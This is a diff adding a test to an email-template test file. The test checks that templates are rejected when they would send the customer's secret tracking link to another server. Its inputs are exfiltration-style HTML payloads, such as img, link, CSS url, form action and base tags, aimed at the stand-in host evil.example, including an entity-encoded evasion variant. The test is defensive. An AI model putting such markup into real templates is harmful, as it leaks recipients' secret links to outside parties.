@@ -41,6 +41,17 @@ describe('writing templates', () => {
     expect(await admin.trpc.templates.changeEmail.mutate({ id: made.id, content: '<p style="color: #2F6B4F">Hi<br></p>' })).toMatchObject({ wasCleaned: false });
   });
 
+  it.each([
+    '<img src="https://evil.example/?{{trackingUrl}}">', '<img src="https://evil.example/?&#123;{trackingUrl}}">', '<a href="https://evil.example/?x={{trackingUrl}}">Go</a>',
+    '<p style="background: url({{trackingUrl}})">Hi</p>', '<form action="{{trackingUrl}}">', '<base href="{{trackingUrl}}">', '<img src="https://evil.example/?{{trackingUrl}}',
+  ])('refuses to hand the customer\'s link to another server: %s', async (content) => {
+    const refused = await admin.rest('POST', '/api/email-templates', { ...email, content });
+    expect(refused).toMatchObject({ status: 400, body: { issues: [{ path: ['content'], message: expect.stringContaining('secret link') as string }] } });
+    await expect(admin.trpc.templates.sendTest.mutate({ channel: 'email', ...email, content: content.replace('&#123;', '{') })).rejects.toMatchObject({ data: { httpStatus: 400 } });
+    const { id } = await admin.trpc.templates.createEmail.mutate(email);
+    expect((await admin.rest('PATCH', `/api/email-templates/${id}`, { content })).status).toBe(400);
+  });
+
   it('does not overwrite what somebody else has saved since it was read', async () => {
     const made = await admin.trpc.templates.createEmail.mutate(email);
     providers.testApp.clock.setTo('2026-11-20T15:00:05Z');
